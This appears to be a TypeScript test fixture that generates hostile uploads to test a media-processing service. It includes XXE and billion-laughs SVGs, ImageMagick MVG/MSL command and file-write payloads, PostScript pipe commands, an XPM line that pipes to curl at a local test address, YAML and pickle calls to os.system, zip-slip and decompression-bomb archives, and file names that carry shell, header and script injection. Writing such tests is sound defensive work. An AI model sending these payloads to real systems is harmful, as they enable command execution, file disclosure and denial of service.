/** What is no media at all, and names and types that clients give to files. */
import { deflateSync, gzipSync } from 'node:zlib';
import { zipArchive } from '../../inference/testing/zip.ts';
import { type HostileFile, latin1, randomBytes, seededRandom, u32be } from './bytes.ts';
import type { ValidFiles } from './valid-files.ts';

/** @param address `127.0.0.1:port` of a listener that nothing may ever contact */
export function hostileOthers(valid: ValidFiles, address: string): HostileFile[] {
  return [
    ...documents(address),
    ...foreignImages(address),
    ...archives(),
    ...noise(),
    ...names(valid, address),
  ];
}

function texts(files: Readonly<Record<string, string>>): HostileFile[] {
  return Object.entries(files).map(([name, text]) => ({
    name,
    bytes: latin1(text),
    fileName: 'a.png',
    type: 'image/png',
  }));
}

/** Text that some reader of images or documents would act on. */
function documents(address: string): HostileFile[] {
  const url = `http://${address}`;
  const entities = Array.from(
    { length: 9 },
    (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
  ).join('');
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="300">';
  return texts({
    SVG: `${svg}<rect width="9" height="9"/></svg>`,
    'SVG with a picture at a URL': `${svg}<image xlink:href="${url}/a.png" width="9" height="9"/></svg>`,
    'SVG with a file': `${svg}<image xlink:href="file:///etc/passwd" width="9" height="9"/></svg>`,
    'SVG with a style at a URL': `<?xml-stylesheet href="${url}/a.css"?>${svg}</svg>`,
    'SVG with an entity of a file': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>${svg}<text>&e;</text></svg>`,
    'SVG with an entity at a URL': `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "${url}/a.dtd">${svg}</svg>`,
    'SVG of a billion laughs': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">${entities}]>${svg}<text>&l9;</text></svg>`,
    'SVG of 10^9 by 10^9 pixels':
      '<svg xmlns="http://www.w3.org/2000/svg" width="1000000000" height="1000000000"/>',
    'SVG in UTF-16': `\xff\xfe${[...svg].map((letter) => `${letter}\0`).join('')}`,
    HTML: `<!doctype html><img src="${url}/a.png">`,
    'PDF with an action': `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${url})>>>>endobj\ntrailer<</Root 1 0 R>>`,
    PostScript: '%!PS-Adobe-3.0\n(/etc/passwd)(r)file 100 string readstring pop show showpage\n',
    'PostScript in EPS':
      '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n{ null restore } stopped\n(%pipe%id) (w) file\n',
    MVG: `push graphic-context\nviewbox 0 0 640 480\nfill 'url(${url}/a.jpg"|id "b)'\npop graphic-context\n`,
    MSL: `<?xml version="1.0"?><image><read filename="${url}/a.png"/><write filename="/tmp/b.php"/></image>`,
    CSV: '1,2,3\n4,5,6\n',
    JSON: '{"media":"data:image/png;base64,AAAA"}',
    'data URL': 'data:image/png;base64,iVBORw0KGgo=',
    URL: `${url}/a.png\n`,
    YAML: '!!python/object/apply:os.system ["id"]\n',
  });
}

/** Formats of pictures that are not read here, large where they say so. */
function foreignImages(address: string): HostileFile[] {
  const bmp = Buffer.alloc(60);
  bmp.write('BM');
  bmp.writeUInt32LE(40, 14);
  bmp.writeInt32LE(0x7fffffff, 18);
  bmp.writeInt32LE(-0x7fffffff, 22);
  const tiff = (magic: string, directory: number) => {
    const bytes = Buffer.alloc(64);
    bytes.write(magic, 'latin1');
    bytes.writeUInt32LE(directory, 4);
    return bytes;
  };
  return [
    { name: 'BMP of 2^31 pixels in a row', bytes: bmp },
    { name: 'TIFF whose directory is itself', bytes: tiff('II*\0', 4) },
    { name: 'TIFF whose directory lies behind the file', bytes: tiff('II*\0', 0xffffffff) },
    { name: 'BigTIFF', bytes: tiff('II+\0', 8) },
    ...texts({
      'ICO of nothing': '\0\0\x01\0\xff\xff',
      'PPM of 10^9 pixels in a row': 'P6 1000000000 1000000000 255\n',
      PFM: 'PF\n1 1\n-1.0\n............',
      'FITS of 10^12 pixels': `SIMPLE  =                    T${' '.repeat(50)}NAXIS1  = 1000000000000`,
      'Radiance HDR': '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 99999 +X 99999\n',
      'JPEG XL': '\xff\x0a\xff\xff\xff\xff\xff',
      'JPEG 2000': '\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 ',
      'Photoshop of 300,000 by 300,000 pixels':
        '8BPS\0\x01\0\0\0\0\0\0\0\x03\0\x04\x93\xe0\0\x04\x93\xe0\0\x08\0\x03',
      'native file of libvips': '\x08\xf2\xa6\xb6\xff\xff\xff\x7f\xff\xff\xff\x7f\0\0\0\x03',
      'HEIC without items': '\0\0\0\x18ftypheic\0\0\0\0mif1heic\0\0\0\x08meta',
      'HEIC that is called AVIF': '\0\0\0\x18ftypavif\0\0\0\0mif1heic\0\0\0\x08meta',
      DICOM: `${'\0'.repeat(128)}DICM`,
      OpenEXR: '\x76\x2f\x31\x01\x02\0\0\0',
      'XPM with a command': `/* XPM */ static char *a[] = {"1 1 1 1", "a c |curl ${address}", "a"};`,
    }),
  ];
}

function archives(): HostileFile[] {
  const zeros = deflateSync(Buffer.alloc(100e6), { level: 9 });
  const tar = Buffer.alloc(1024);
  tar.write('link', 0);
  tar.write('2/etc/passwd', 156);
  tar.write('ustar', 257);
  const nested = Array.from({ length: 40 }).reduce<Buffer>(
    (inner, _, level) => zipArchive(`${level}.zip`, inner),
    Buffer.from('x'),
  );
  return [
    { name: 'zlib stream of 100 MB', bytes: zeros },
    { name: 'gzip stream of 100 MB', bytes: gzipSync(Buffer.alloc(100e6), { level: 9 }) },
    { name: 'ZIP in 40 ZIPs', bytes: nested },
    { name: 'ZIP with a way out', bytes: zipArchive('../../etc/cron.d/x', Buffer.from('x')) },
    { name: 'tar with a link', bytes: tar },
    { name: 'program', bytes: Buffer.concat([latin1('\x7fELF\x02\x01\x01'), Buffer.alloc(500)]) },
    {
      name: 'program for Windows',
      bytes: Buffer.concat([latin1('MZ'), Buffer.alloc(58), u32be(0x40000000), latin1('PE\0\0')]),
    },
    { name: 'module of WebAssembly', bytes: latin1('\0asm\x01\0\0\0') },
    { name: 'database', bytes: latin1(`SQLite format 3\0${'\0'.repeat(100)}`) },
    { name: 'pickled call', bytes: latin1("cos\nsystem\n(S'id'\ntR.") },
  ];
}

function noise(): HostileFile[] {
  const random = seededRandom(1);
  const sizes = [1, 2, 3, 4, 7, 8, 11, 12, 16, 64, 4096, 65_536, 1_048_576];
  return [
    { name: 'nothing', bytes: Buffer.alloc(0) },
    ...sizes.map((size) => ({ name: `${size} random bytes`, bytes: randomBytes(size, random) })),
    ...[0, 0x0a, 0x20, 0x41, 0xff].map((value) => ({
      name: `a million bytes of ${value}`,
      bytes: Buffer.alloc(1e6, value),
    })),
  ];
}

function names({ png, wav }: ValidFiles, address: string): HostileFile[] {
  const fileNames = [
    '../../../../etc/passwd',
    '/etc/passwd',
    'C:\\Windows\\win.ini',
    '|id',
    '$(id).png',
    '-i',
    '--help.png',
    'a.png\0.txt',
    'a.png\r\nX-Injected: 1',
    `http://${address}/a.m3u8`,
    'concat:/etc/passwd|/etc/hosts',
    'file:///etc/passwd',
    'a'.repeat(10_000),
    '\u202egnp.exe',
    '.',
    '%s%n%x',
    'NUL',
    '<script>alert(1)</script>.png',
  ];
  const types = [
    'image/svg+xml',
    'text/html',
    'application/x-mpegURL',
    'image/png; charset=x',
    'x'.repeat(5000),
    '*/*',
  ];
  return [
    ...fileNames.map((fileName) => ({
      name: `PNG that is called ${JSON.stringify(fileName.slice(0, 40))}`,
      bytes: png.bytes,
      fileName,
    })),
    ...types.map((type) => ({
      name: `PNG that is declared as ${type.slice(0, 40)}`,
      bytes: png.bytes,
      type,
    })),
    { name: 'WAV that is declared as a picture', bytes: wav.bytes, fileName: 'a.png', type: 'image/png' },
  ];
}
